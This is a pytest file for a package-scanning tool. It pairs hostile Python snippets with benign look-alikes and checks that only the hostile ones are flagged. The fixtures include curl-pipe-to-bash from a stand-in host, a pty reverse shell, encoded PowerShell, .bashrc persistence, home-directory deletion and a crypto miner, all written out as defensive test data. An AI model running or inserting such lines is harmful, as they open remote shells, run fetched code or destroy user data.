"""Programs that are started, files that start by themselves: each beside an honest twin."""

from __future__ import annotations

import pytest

from affineur.core.findings import Severity
from support.scanning import Scan, signals_of

BLOCK, REVIEW, INFO = Severity.BLOCK, Severity.REVIEW, Severity.INFO
ENCODED = "VwByAGkAdABlAC0ASABvAHMAdAAgAHAAbAB1AG0A"


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        (
            ["import os", "os.system('curl -s https://a.example/i.sh | bash')"],
            [("download-and-run", BLOCK, 2)],
        ),
        (
            [
                "import os, urllib.request as u",
                "def f(to):",
                "    u.urlretrieve('https://a/x', to)",
                "    os.chmod(to, 0o755)",
                "    os.system(to)",
            ],
            [("download-and-run", REVIEW, 5)],
        ),
        (
            [
                "import subprocess",
                f"subprocess.run(['powershell', '-w', 'h', '-enc', '{ENCODED}'])",
            ],
            [("encoded-powershell", BLOCK, 2)],
        ),
        (
            [
                "import os, pty, socket",
                "s = socket.socket()",
                "s.connect(('h.example', 1))",
                "os.dup2(s.fileno(), 0)",
                "pty.spawn('/bin/sh')",
            ],
            [("reverse-shell", BLOCK, 4)],
        ),
        (
            [
                "import os",
                "with open(os.path.expanduser('~/.bashrc'), 'a') as f:",
                "    f.write('python -m spam &')",
            ],
            [("persistence", BLOCK, 3)],
        ),
        (
            ["import os, shutil", "def f():", "    shutil.rmtree(os.path.expanduser('~'))"],
            [("destruction", REVIEW, 3)],
        ),
        (
            [
                "import subprocess",
                "POOL = 'stratum+tcp://pool.example:3333'",
                "def f():",
                "    subprocess.Popen(['./xmrig', '-o', POOL])",
            ],
            [("miner", REVIEW, 2), ("miner", REVIEW, 4)],
        ),
        (
            [
                "import subprocess, sys",
                "subprocess.run([sys.executable, '-m', 'pip', 'install', 'git+https://a/b'])",
            ],
            [("runtime-install", REVIEW, 2)],
        ),
    ],
)
def test_what_is_started_or_left_behind_is_found(
    scan: Scan, lines: list[str], expected: list[tuple[str, Severity, int]]
) -> None:
    assert signals_of(scan({"spam/__init__.py": "\n".join(lines)})) == expected


@pytest.mark.parametrize(
    "lines",
    [
        ["import os", "def f():", "    os.system('curl -sO https://a.example/data.json')"],
        [
            "import subprocess",
            "def f(to):",
            "    subprocess.run(['git', 'clone', 'https://a', to])",
        ],
        [
            "import subprocess",
            "def f(c):",
            "    subprocess.run(['powershell', '-enc', encoded(c)])",
        ],
        ["import os", "def f():", "    return open(os.path.expanduser('~/.bashrc')).read()"],
        ["import shutil, tempfile", "shutil.rmtree(tempfile.mkdtemp())"],
        ["import os, shutil", "shutil.rmtree(os.path.expanduser('~/.cache/spam'))"],
    ],
)
def test_honest_programs_are_not_flagged(scan: Scan, lines: list[str]) -> None:
    assert signals_of(scan({"spam/__init__.py": "\n".join(lines)})) == []
